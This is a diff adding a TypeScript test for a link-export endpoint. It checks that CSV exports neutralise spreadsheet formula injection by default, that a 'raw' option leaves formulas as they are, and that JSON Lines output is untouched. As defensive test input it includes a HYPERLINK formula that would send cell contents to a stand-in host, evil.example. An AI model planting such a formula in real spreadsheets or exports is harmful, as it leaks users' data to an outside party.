@@ -155,7 +155,54 @@ describe('GET /links/export', () => {
     expect(jsonl.text).toBe('');
   });
 
+  test('CSV guards spreadsheet formulas by default (OWASP), csv_formulas=raw writes them as they are, JSON Lines never guards', async () => {
+    const carol = await createAccount(server);
+    const formulas = {
+      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      destination_url: 'https://example.com/formula',
+      tag_names: ['=1+1'],
+      comments: '=cmd',
+    };
+    expect((await carol.call('POST', '/links', formulas)).status).toBe(201);
+    expect(
+      (await carol.call('POST', '/links', { title: "'=1+1", destination_url: 'https://example.com/quoted', comments: '@x' })).status,
+    ).toBe(201);
+    const cells = (text: string) =>
+      parseCsv(text)
+        .slice(1)
+        .map((row) => [row[4], row[5], row[7]]);
+
+    const guarded = await exportOf(carol);
+    expect(guarded.status).toBe(200);
+    expect(cells(guarded.text)).toEqual([
+      [`'${formulas.title}`, "'=1+1", "'=cmd"],
+      ["''=1+1", '', "'@x"],
+    ]);
+    // No cell of the file starts with a character a spreadsheet runs.
+    for (const row of parseCsv(guarded.text)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const raw = await exportOf(carol, '?csv_formulas=raw');
+    expect(raw.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(cells(raw.text)).toEqual([
+      [formulas.title, '=1+1', '=cmd'],
+      ["'=1+1", '', '@x'],
+    ]);
+    expect(await exportOf(carol, '?format=csv&csv_formulas=guarded')).toMatchObject({ text: guarded.text });
+
+    const jsonl = await exportOf(carol, '?format=jsonl');
+    expect(
+      jsonl.text
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line).title),
+    ).toEqual([formulas.title, "'=1+1"]);
+    expect((await exportOf(carol, '?format=jsonl&csv_formulas=raw')).text).toBe(jsonl.text);
+  });
+
   test('a bad format is 422 VALIDATION_ERROR on field format; an unknown parameter too; without a key 401', async () => {
+    const bad = await exportOf(alice, '?csv_formulas=off');
+    expect(bad.status).toBe(422);
+    expect(JSON.parse(bad.text)).toMatchObject({ code: 'VALIDATION_ERROR', field: 'csv_formulas' });
     for (const query of ['?format=xml', '?format=', '?format=csv&format=jsonl', '?colour=red']) {
       const response = await exportOf(alice, query);
       expect(response.status, query).toBe(422);
